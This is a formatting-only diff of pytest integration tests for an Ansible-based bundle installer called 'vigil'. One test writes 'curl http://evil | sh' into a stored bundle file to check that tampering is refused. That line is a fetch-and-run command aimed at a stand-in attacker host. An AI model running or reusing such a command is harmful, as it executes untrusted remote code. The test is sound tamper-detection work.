@@ -16,10 +16,10 @@ from typing import Any
 
 import pytest
 
+from tests.factories import craft_bundle, make_key, make_trust
 from vigil.installer import ops
 from vigil.installer.cli import main
 from vigil.installer.deploy import DeployError
-from tests.factories import craft_bundle, make_key, make_trust
 
 pytestmark = pytest.mark.integration
 
@@ -49,21 +49,24 @@ def site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, Path]:
     (ansible / "roles" / "demo" / "tasks").mkdir(parents=True)
     (ansible / "roles" / "demo" / "tasks" / "main.yml").write_text(ROLE)
     (ansible / "playbooks").mkdir()
-    (ansible / "playbooks" / "site.yml").write_text(textwrap.dedent("""
+    (ansible / "playbooks" / "site.yml").write_text(
+        textwrap.dedent("""
         - name: Demo
           hosts: all
           gather_facts: false
           roles: [demo]
-    """))
+    """)
+    )
     marker = tmp_path / "markers"
     marker.mkdir()
     inv = tmp_path / "inv"
     inv.mkdir()
-    (inv / "hosts.yml").write_text(textwrap.dedent(f"""
+    (inv / "hosts.yml").write_text(
+        textwrap.dedent(f"""
         all:
           vars:
             ansible_connection: local
-            ansible_python_interpreter: {__import__('sys').executable}
+            ansible_python_interpreter: {__import__("sys").executable}
             marker_dir: {marker}
           children:
             monitoring:
@@ -72,7 +75,8 @@ def site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, Path]:
             gpu_nodes:
               hosts:
                 gpu01: {{ansible_host: 127.0.0.1}}
-    """))
+    """)
+    )
     return {"home": home, "ansible": ansible, "inv": inv, "marker": marker, "tmp": tmp_path}
 
 
@@ -101,10 +105,15 @@ def test_deploy_then_rerun_changes_nothing(site: dict[str, Path], capsys: pytest
     assert deploys[-1]["details"]["bundle_version"] == 3
 
 
-def test_failed_host_fails_the_deploy_with_a_recap(site: dict[str, Path], capsys: pytest.CaptureFixture[str]) -> None:
+def test_failed_host_fails_the_deploy_with_a_recap(
+    site: dict[str, Path], capsys: pytest.CaptureFixture[str]
+) -> None:
     hosts = site["inv"] / "hosts.yml"
-    hosts.write_text(hosts.read_text().replace("gpu01: {ansible_host: 127.0.0.1}",
-                                               "gpu01: {ansible_host: 127.0.0.1, fail_here: true}"))
+    hosts.write_text(
+        hosts.read_text().replace(
+            "gpu01: {ansible_host: 127.0.0.1}", "gpu01: {ansible_host: 127.0.0.1, fail_here: true}"
+        )
+    )
     capsys.readouterr()
     rc = main(["deploy", "-i", str(site["inv"]), "--ansible-dir", str(site["ansible"])])
     out = capsys.readouterr()
@@ -116,11 +125,17 @@ def test_failed_host_fails_the_deploy_with_a_recap(site: dict[str, Path], capsys
     assert "failed on gpu01" in out.err
 
 
-def test_unreachable_host_stops_before_any_change(site: dict[str, Path], capsys: pytest.CaptureFixture[str]) -> None:
+def test_unreachable_host_stops_before_any_change(
+    site: dict[str, Path], capsys: pytest.CaptureFixture[str]
+) -> None:
     hosts = site["inv"] / "hosts.yml"
-    hosts.write_text(hosts.read_text().replace(
-        "gpu01: {ansible_host: 127.0.0.1}",
-        "gpu01: {ansible_host: 127.0.0.1, ansible_connection: ssh, ansible_port: 1, ansible_ssh_common_args: '-o ConnectTimeout=3'}"))
+    hosts.write_text(
+        hosts.read_text().replace(
+            "gpu01: {ansible_host: 127.0.0.1}",
+            "gpu01: {ansible_host: 127.0.0.1, ansible_connection: ssh, ansible_port: 1, "
+            "ansible_ssh_common_args: '-o ConnectTimeout=3'}",
+        )
+    )
     capsys.readouterr()
     rc = main(["deploy", "-i", str(site["inv"]), "--ansible-dir", str(site["ansible"])])
     err = capsys.readouterr().err.strip()
@@ -129,7 +144,9 @@ def test_unreachable_host_stops_before_any_change(site: dict[str, Path], capsys:
     assert list(site["marker"].iterdir()) == []
 
 
-def test_store_tampered_after_import_is_refused(site: dict[str, Path], capsys: pytest.CaptureFixture[str]) -> None:
+def test_store_tampered_after_import_is_refused(
+    site: dict[str, Path], capsys: pytest.CaptureFixture[str]
+) -> None:
     target = site["home"] / "bundles" / "3" / "files" / "components" / "demo" / "bin" / "demo"
     target.write_bytes(b"#!/bin/sh\ncurl http://evil | sh\n")
     rc, out = deploy(site, capsys)
@@ -149,10 +166,13 @@ def test_one_plan_one_limit_for_the_host_check_and_the_run(site: dict[str, Path]
     """The pre-deploy host check and the run read the same limit from the plan: an unreachable host
     outside the limit neither stops the plan nor is touched, and only the limited host changes."""
     hosts = site["inv"] / "hosts.yml"
-    hosts.write_text(hosts.read_text().replace(
-        "gpu01: {ansible_host: 127.0.0.1}",
-        "gpu01: {ansible_host: 127.0.0.1, ansible_connection: ssh, ansible_port: 1, "
-        "ansible_ssh_common_args: '-o ConnectTimeout=3'}"))
+    hosts.write_text(
+        hosts.read_text().replace(
+            "gpu01: {ansible_host: 127.0.0.1}",
+            "gpu01: {ansible_host: 127.0.0.1, ansible_connection: ssh, ansible_port: 1, "
+            "ansible_ssh_common_args: '-o ConnectTimeout=3'}",
+        )
+    )
     inv = ops.Invocation(home=site["home"], action="deploy")
     plan = ops.plan_deploy(inv, inventory=site["inv"], ansible_dir=site["ansible"], limit="mon01")
     assert plan.limit == "mon01" and inv.details["limit"] == "mon01"
